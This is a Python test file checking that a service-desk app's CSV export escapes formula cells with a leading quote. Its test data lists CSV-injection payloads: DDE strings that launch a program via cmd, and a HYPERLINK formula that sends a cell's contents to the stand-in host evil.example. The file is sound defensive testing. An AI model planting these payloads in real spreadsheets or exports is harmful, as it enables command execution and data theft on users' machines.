"""Every CSV export neutralises formula cells (servicedesk.csv_export.csv_safe)."""

import csv
import io
from decimal import Decimal

import pytest

from cases.report_apis import CSVRenderer
from servicedesk.csv_export import csv_row, csv_safe

PAYLOADS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "＝1+1", " =1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_leading_quote(payload):
    assert csv_safe(payload) == "'" + payload


@pytest.mark.parametrize("value, expected", [
    ("融资利率咨询", "融资利率咨询"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, "-5"), (Decimal("-1.25"), "-1.25"),
    (0.5, "0.5"), (True, "True"), ("CS-2026-000123", "CS-2026-000123"),
])
def test_other_cells_are_unchanged(value, expected):
    assert csv_safe(value) == expected


def test_csv_row():
    assert csv_row(["=1", 2, None]) == ["'=1", "2", ""]


def test_the_report_renderer_neutralises_every_cell():
    rows = [{"group": payload, "met": 1} for payload in PAYLOADS]
    breaches = [{"case": payload, "assignee": payload} for payload in PAYLOADS]
    text = CSVRenderer().render({"rows": rows, "breaches": breaches})
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed[0] == ["group", "metric", "met", "breached", "running", "compliance"]
    assert [row[0] for row in parsed[1:len(PAYLOADS) + 1]] == ["'" + payload for payload in PAYLOADS]
    listed = parsed[parsed.index(["breaches"]) + 2:][:len(PAYLOADS)]
    assert [(row[0], row[4]) for row in listed] == [("'" + payload, "'" + payload) for payload in PAYLOADS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in parsed[1:] for cell in row)


def test_the_report_renderer_neutralises_every_error_cell():
    from rest_framework.response import Response

    text = CSVRenderer().render({PAYLOADS[0]: [PAYLOADS[1]]}, renderer_context={"response": Response(status=400)})
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed == [["field", "message"], ["'" + PAYLOADS[0], "'" + PAYLOADS[1]]]
